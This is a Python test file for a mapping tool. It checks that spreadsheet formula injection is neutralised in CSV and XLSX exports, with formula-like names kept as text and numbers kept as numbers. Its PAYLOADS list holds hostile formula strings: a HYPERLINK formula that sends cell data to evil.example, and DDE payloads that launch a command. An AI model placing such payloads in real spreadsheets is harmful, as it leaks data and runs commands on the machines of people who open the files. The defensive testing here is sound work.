"""Spreadsheet formula injection: an organisation named like a formula stays text in every
CSV/XLSX path, numbers stay numbers, and the import reads back what the export wrote."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pytest
from pydantic import SecretStr

from netmap.config import Settings
from netmap.ingest.csvfile import read_csv_bytes
from netmap.ingest.pipeline import run_import
from netmap.service.exports import export_area_bytes
from netmap.spreadsheet import csv_text
from netmap.store.embedded import EmbeddedStore

SAMPLE = Path(__file__).resolve().parent / "fixtures" / "sample"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tleading tab",
]


def test_csv_text_prefixes_formulas_and_keeps_numbers() -> None:
    text = csv_text([["name", "delta"], *([p, -3] for p in PAYLOADS)])
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in rows[1:]} == {"-3"}  # a negative number is not a formula


def test_import_reads_back_what_the_export_wrote() -> None:
    text = csv_text([["id", "name", "level", "parent_id"], ["x1", PAYLOADS[0], "city", ""]])
    table = read_csv_bytes("areas.csv", text.encode("utf-8"))
    assert table.rows[0].cells["name"] == PAYLOADS[0]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, Path]:
    root = tmp_path_factory.mktemp("formulas")
    data = root / "csv"
    shutil.copytree(SAMPLE, data)
    orgs = (data / "organisations.csv").read_text(encoding="utf-8").splitlines()
    header, first = orgs[0], orgs[1].split(",")
    # rename the ward office, which every table of the ward lists
    first[1] = '"' + PAYLOADS[0].replace('"', '""') + '"'
    (data / "organisations.csv").write_text(
        "\n".join([header, ",".join(first), *orgs[2:]]) + "\n", encoding="utf-8"
    )
    settings = Settings(data_dir=root / "data", pseudonym_key=SecretStr("k"))
    store = EmbeddedStore(settings.embedded_path)
    try:
        run_import(data, store, settings=settings)
    finally:
        store.close()
    return settings, data


def _graph(settings: Settings):  # type: ignore[no-untyped-def]
    store = EmbeddedStore(settings.embedded_path)
    try:
        return store.export_graph()
    finally:
        store.close()


def test_exports_keep_the_formula_as_text(hostile: tuple[Settings, Path]) -> None:
    settings, _ = hostile
    G = _graph(settings)
    data, _ = export_area_bytes(G, fmt="xlsx", area="kohoku", as_of="2024-06-30", settings=settings)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    hits = [c for c in cells if str(c.value).startswith("=")]
    assert hits, "the hostile name is in the workbook"
    assert all(c.data_type == "s" for c in hits)  # text, never a formula
    data, _ = export_area_bytes(
        G, fmt="csv", area="kohoku", as_of="2024-06-30", table="organisations", settings=settings
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    names = [r[0] for r in rows[1:]]
    assert "'" + PAYLOADS[0] in names and PAYLOADS[0] not in names
    assert not any(str(c).startswith(("=", "+", "@")) for r in rows for c in r)
